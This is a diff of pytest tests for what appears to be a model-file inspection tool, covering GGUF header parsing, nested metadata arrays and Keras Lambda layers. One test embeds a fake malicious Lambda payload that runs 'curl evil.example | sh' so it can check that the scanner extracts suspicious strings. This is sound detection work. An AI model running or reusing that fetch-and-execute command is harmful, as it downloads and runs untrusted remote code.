@@ -298,3 +298,51 @@ def test_saved_model_corrupt() -> None:
         parse_saved_model(pb_int(1, 1) + pb_bytes(2, b"\x0a\xff\xff\xff\x0f"))
     with pytest.raises(FormatError):
         parse_saved_model(pb_int(1, 1))
+
+
+def _gguf_bytes(version: int, order: str, kv: list[tuple[str, str]]) -> bytes:
+    n = "I" if version == 1 else "Q"  # version 1 used 32-bit counts and lengths
+    out = b"GGUF" + struct.pack(f"{order}I{n}{n}", version, 0, len(kv))
+    for key, value in kv:
+        k, v = key.encode(), value.encode()
+        out += struct.pack(f"{order}{n}", len(k)) + k + struct.pack(f"{order}I{n}", 8, len(v)) + v
+    return out
+
+
+@pytest.mark.parametrize(("version", "order"), [(1, "<"), (2, "<"), (3, "<"), (3, ">")])
+def test_gguf_versions_and_byte_order(tmp_path: Path, version: int, order: str) -> None:
+    path = tmp_path / "m.gguf"
+    path.write_bytes(_gguf_bytes(version, order, [("tokenizer.chat_template.x", "{{ a }}")]))
+    info = read_gguf(path)
+    assert info.version == version
+    assert info.byte_order == ("big" if order == ">" else "little")
+    assert info.chat_templates == {"tokenizer.chat_template.x": "{{ a }}"}
+
+
+def test_gguf_nested_arrays_are_json(tmp_path: Path) -> None:
+    key = b"general.tags"
+    inner = struct.pack("<IQ", 4, 2) + struct.pack("<II", 7, 8)  # uint32[2]
+    value = struct.pack("<IQ", 9, 2) + inner + inner  # array of 2 arrays
+    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key
+    path = tmp_path / "n.gguf"
+    path.write_bytes(data + struct.pack("<I", 9) + value)
+    meta = read_gguf(path).metadata_json()
+    assert json.loads(json.dumps(meta)) == {"general.tags": [[7, 8], [7, 8]]}
+
+
+def test_lambda_code_strings_from_real_marshal(tmp_path: Path) -> None:
+    import base64
+    import marshal
+
+    def payload(x: int) -> int:
+        return __import__("os").system("curl evil.example | sh") or x
+
+    code = base64.b64encode(marshal.dumps(payload.__code__)).decode()  # never unmarshalled
+    lam = {
+        "class_name": "Lambda",
+        "config": {"name": "l", "function": [code, None, None], "function_type": "lambda"},
+    }
+    path = tmp_path / "m.keras"
+    path.write_bytes(keras_zip(keras3_config([lam])))
+    strings = read_keras(path).lambdas[0].strings
+    assert {"os", "system", "__import__", "curl evil.example | sh"} <= set(strings)
